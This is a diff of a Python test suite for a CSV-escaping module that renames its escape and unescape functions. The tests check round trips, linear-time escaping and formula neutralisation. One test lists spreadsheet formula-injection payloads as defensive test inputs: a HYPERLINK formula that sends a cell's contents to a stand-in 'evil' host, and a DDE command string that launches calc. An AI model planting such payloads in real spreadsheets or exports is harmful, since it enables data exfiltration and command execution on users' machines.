@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from cranfield.annotation.csv_escape import cell, text_in
+from cranfield.annotation.csv_escape import escape_cell, unescape_cell
 
 ODD = st.text(st.sampled_from("\\u0d8fa'=-+@\t\r\n\0\ud800\udcff1.x,\""))
 ANY = st.text(st.characters(exclude_categories=()))
@@ -24,25 +24,25 @@ def whole(text: str) -> str:
 def test_any_text_comes_back_as_it_was(text: str) -> None:
     text = whole(text)
     table = io.StringIO(newline="")
-    csv.writer(table, lineterminator="\n").writerow([cell(text), "end"])
+    csv.writer(table, lineterminator="\n").writerow([escape_cell(text), "end"])
     content = table.getvalue().encode()
     (row,) = csv.reader(io.StringIO(content.decode(), newline=""), strict=True)
-    assert [text_in(row[0]), row[1]] == [text, "end"]
+    assert [unescape_cell(row[0]), row[1]] == [text, "end"]
 
 
 @pytest.mark.parametrize(
     "text", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
 )
 def test_no_cell_is_a_formula(text: str) -> None:
-    assert cell(text) == f"'{text}" and text_in(cell(text)) == text
+    assert escape_cell(text) == f"'{text}" and unescape_cell(escape_cell(text)) == text
 
 
 @pytest.mark.parametrize("text", ["plain", "it's", "-1", "+0.5", "a=b", "C:\\new\\users", "日本", ""])
 def test_what_is_harmless_stays_as_it_is(text: str) -> None:
-    assert cell(text) == text == text_in(text)
+    assert escape_cell(text) == text == unescape_cell(text)
 
 
 def test_long_texts_are_escaped_in_linear_time() -> None:
     """If time were quadratic, this would take hours."""
     for text in ("\\" * 2_000_000, "\\u000" * 400_000, "'" * 2_000_000):
-        assert text_in(cell(text)) == text
+        assert unescape_cell(escape_cell(text)) == text
